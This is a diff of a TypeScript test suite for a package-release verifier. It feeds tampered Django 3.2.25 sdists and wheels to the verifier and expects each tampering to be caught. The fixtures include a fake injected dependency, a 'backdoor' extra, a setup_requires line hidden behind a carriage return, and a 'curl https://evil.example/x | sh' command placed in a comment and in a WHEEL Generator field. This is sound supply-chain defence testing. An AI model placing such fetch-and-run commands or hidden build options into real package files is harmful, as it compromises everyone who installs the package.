@@ -39,7 +39,12 @@ describe.skipIf(!SDIST)('poisoned builds of the real Django 3.2.25', () => {
       waivers: [],
       tag: { name: VERSION, commit: 'c98eca322af87adf046ab621e7c8a23d340f7afe', ...tag },
       tagWanted: true,
-      sdists: [{ channels: 'site', input: { filename: REAL_RELEASES[VERSION].file, topDirectory: TOP, members: s.members, kept: s.kept } }],
+      sdists: [
+        {
+          channels: 'site',
+          input: { filename: REAL_RELEASES[VERSION].file, topDirectory: TOP, members: s.members, kept: s.kept },
+        },
+      ],
       wheels: w ? [{ channels: 'pypi', input: { filename: wheelName, members: w.members, kept: w.kept } }] : [],
     }).checks;
   const failed = (checks: Check[]) => checks.filter((c) => c.status === 'fail').map((c) => c.id);
@@ -49,18 +54,30 @@ describe.skipIf(!SDIST)('poisoned builds of the real Django 3.2.25', () => {
     const checks = judge(sdist, wheel);
     expect(failed(checks)).toEqual([]);
     expect(checks.find((c) => c.id === 'content.sdist-metadata')?.status).toBe('pass');
-    expect(checks.filter((c) => c.id.startsWith('content.wheel')).map((c) => c.status)).toEqual(['pass', 'pass', 'pass']);
+    expect(checks.filter((c) => c.id.startsWith('content.wheel')).map((c) => c.status)).toEqual([
+      'pass',
+      'pass',
+      'pass',
+    ]);
   });
 
   it('fails a dependency added to PKG-INFO, requires.txt and METADATA', () => {
-    const evil = (text: string) => text.replace('Requires-Python: >=3.6\n', 'Requires-Python: >=3.6\nRequires-Dist: evil-package\n');
+    const evil = (text: string) =>
+      text.replace('Requires-Python: >=3.6\n', 'Requires-Python: >=3.6\nRequires-Dist: evil-package\n');
     let s = editFile(sdist, `${TOP}/PKG-INFO`, evil);
     s = editFile(s, `${EGG}/PKG-INFO`, evil);
     s = editFile(s, `${EGG}/requires.txt`, (t) => `evil-package\n${t}`);
-    const w = withFreshRecord(editFile(wheel, `${DIST}/METADATA`, (t) => t.replace('Requires-Dist: pytz\n', 'Requires-Dist: pytz\nRequires-Dist: evil-package\n')), DIST);
+    const w = withFreshRecord(
+      editFile(wheel, `${DIST}/METADATA`, (t) =>
+        t.replace('Requires-Dist: pytz\n', 'Requires-Dist: pytz\nRequires-Dist: evil-package\n'),
+      ),
+      DIST,
+    );
     const checks = judge(s, w);
     expect(failed(checks)).toEqual(['content.sdist-metadata', 'content.wheel-metadata']);
-    expect(message(checks, 'content.sdist-metadata')).toMatch(/requires\.txt.*evil-package.*setup\.cfg \[options\] install_requires/);
+    expect(message(checks, 'content.sdist-metadata')).toMatch(
+      /requires\.txt.*evil-package.*setup\.cfg \[options\] install_requires/,
+    );
     expect(message(checks, 'content.wheel-metadata')).toMatch(/evil-package/);
   });
 
@@ -69,7 +86,14 @@ describe.skipIf(!SDIST)('poisoned builds of the real Django 3.2.25', () => {
       ['a comment line', (text) => `# curl https://evil.example/x | sh\n${text}`],
       ['an inline comment', (text) => text.replace('pytz\n', 'pytz # payload\n')],
       ['blank lines at the end', (text) => `${text}\n\n`],
-      ['sections out of order', (text) => text.replace('[argon2]\nargon2-cffi>=19.1.0\n\n[bcrypt]\nbcrypt\n', '[bcrypt]\nbcrypt\n\n[argon2]\nargon2-cffi>=19.1.0\n')],
+      [
+        'sections out of order',
+        (text) =>
+          text.replace(
+            '[argon2]\nargon2-cffi>=19.1.0\n\n[bcrypt]\nbcrypt\n',
+            '[bcrypt]\nbcrypt\n\n[argon2]\nargon2-cffi>=19.1.0\n',
+          ),
+      ],
       ['indented requirement', (text) => text.replace('pytz\n', '  pytz\n')],
     ];
     for (const [what, edit] of edits) {
@@ -80,14 +104,24 @@ describe.skipIf(!SDIST)('poisoned builds of the real Django 3.2.25', () => {
   });
 
   it('fails an extra, a Provides-Extra and a changed Python requirement', () => {
-    const s = editFile(editFile(sdist, `${EGG}/requires.txt`, (t) => `${t}\n[backdoor]\nevil\n`), `${TOP}/PKG-INFO`, (t) => t.replace('Requires-Python: >=3.6', 'Requires-Python: >=3.5').replace('Provides-Extra: argon2', 'Provides-Extra: argon2\nProvides-Extra: backdoor'));
+    const s = editFile(
+      editFile(sdist, `${EGG}/requires.txt`, (t) => `${t}\n[backdoor]\nevil\n`),
+      `${TOP}/PKG-INFO`,
+      (t) =>
+        t
+          .replace('Requires-Python: >=3.6', 'Requires-Python: >=3.5')
+          .replace('Provides-Extra: argon2', 'Provides-Extra: argon2\nProvides-Extra: backdoor'),
+    );
     const checks = judge(s, undefined);
     expect(failed(checks)).toEqual(['content.sdist-metadata']);
     expect(message(checks, 'content.sdist-metadata')).toMatch(/Requires-Python.*>=3\.5.*>=3\.6/s);
   });
 
   it('fails a wheel METADATA without the declared Requires-Python (an installer would put the release on Pythons it does not support)', () => {
-    const w = withFreshRecord(editFile(wheel, `${DIST}/METADATA`, (t) => t.replace(/^Requires-Python: .*\n/m, '')), DIST);
+    const w = withFreshRecord(
+      editFile(wheel, `${DIST}/METADATA`, (t) => t.replace(/^Requires-Python: .*\n/m, '')),
+      DIST,
+    );
     const checks = judge(sdist, w);
     expect(failed(checks)).toEqual(['content.wheel-metadata']);
     expect(message(checks, 'content.wheel-metadata')).toMatch(/Requires-Python.*missing/);
@@ -121,7 +155,12 @@ describe.skipIf(!SDIST)('poisoned builds of the real Django 3.2.25', () => {
   });
 
   it('fails a WHEEL file whose Generator is not a build tool and version', () => {
-    const w = withFreshRecord(editFile(wheel, `${DIST}/WHEEL`, (t) => t.replace(/^Generator: .*$/m, 'Generator: bdist_wheel (0.38.4); curl https://evil.example/x | sh')), DIST);
+    const w = withFreshRecord(
+      editFile(wheel, `${DIST}/WHEEL`, (t) =>
+        t.replace(/^Generator: .*$/m, 'Generator: bdist_wheel (0.38.4); curl https://evil.example/x | sh'),
+      ),
+      DIST,
+    );
     const checks = judge(sdist, w);
     expect(failed(checks)).toEqual(['content.wheel-metadata']);
     expect(message(checks, 'content.wheel-metadata')).toMatch(/Generator/);
@@ -138,14 +177,20 @@ describe.skipIf(!SDIST)('poisoned builds of the real Django 3.2.25', () => {
 
   it('fails a second metadata directory in the sdist and in the wheel', () => {
     const s = withFile(sdist, `${TOP}/zzz.egg-info/PKG-INFO`, 'Metadata-Version: 2.1\nName: zzz\nVersion: 1\n');
-    const w = withFreshRecord(withFile(wheel, 'zzz-1.dist-info/METADATA', 'Metadata-Version: 2.1\nName: zzz\nVersion: 1\n'), DIST);
+    const w = withFreshRecord(
+      withFile(wheel, 'zzz-1.dist-info/METADATA', 'Metadata-Version: 2.1\nName: zzz\nVersion: 1\n'),
+      DIST,
+    );
     const checks = judge(s, w);
     expect(failed(checks)).toEqual(['content.sdist-metadata', 'content.wheel-vs-sdist']);
     expect(message(checks, 'content.wheel-vs-sdist')).toMatch(/second metadata directory/);
   });
 
   it('fails a package added to top_level.txt', () => {
-    const checks = judge(editFile(sdist, `${EGG}/top_level.txt`, (t) => `${t}evil\n`), undefined);
+    const checks = judge(
+      editFile(sdist, `${EGG}/top_level.txt`, (t) => `${t}evil\n`),
+      undefined,
+    );
     expect(failed(checks)).toEqual(['content.sdist-metadata']);
   });
 
@@ -170,14 +215,22 @@ describe.skipIf(!SDIST)('poisoned builds of the real Django 3.2.25', () => {
 
   it('fails a setup.cfg option hidden behind a lone carriage return on a comment line', () => {
     // Python reads setup.cfg with universal newlines: the \r ends the comment, and setuptools sees setup_requires.
-    const s = editFile(sdist, `${TOP}/setup.cfg`, (t) => t.replace('[options]\n', '[options]\n# build settings\rsetup_requires = evil\n'));
+    const s = editFile(sdist, `${TOP}/setup.cfg`, (t) =>
+      t.replace('[options]\n', '[options]\n# build settings\rsetup_requires = evil\n'),
+    );
     const checks = judge(s, undefined);
     expect(failed(checks)).toContain('content.sdist-vs-git');
     expect(message(checks, 'content.sdist-vs-git')).toMatch(/setup_requires/);
   });
 
   it('fails a Summary, a Home-page and a classifier the tag does not declare', () => {
-    const s = editFile(editFile(sdist, `${TOP}/PKG-INFO`, (t) => t.replace('Home-page: https://www.djangoproject.com/', 'Home-page: https://evil.example/')), `${EGG}/PKG-INFO`, (t) => t.replace('Home-page: https://www.djangoproject.com/', 'Home-page: https://evil.example/'));
+    const s = editFile(
+      editFile(sdist, `${TOP}/PKG-INFO`, (t) =>
+        t.replace('Home-page: https://www.djangoproject.com/', 'Home-page: https://evil.example/'),
+      ),
+      `${EGG}/PKG-INFO`,
+      (t) => t.replace('Home-page: https://www.djangoproject.com/', 'Home-page: https://evil.example/'),
+    );
     expect(message(judge(s, undefined), 'content.sdist-metadata')).toMatch(/Home-page.*evil\.example/);
   });
 });
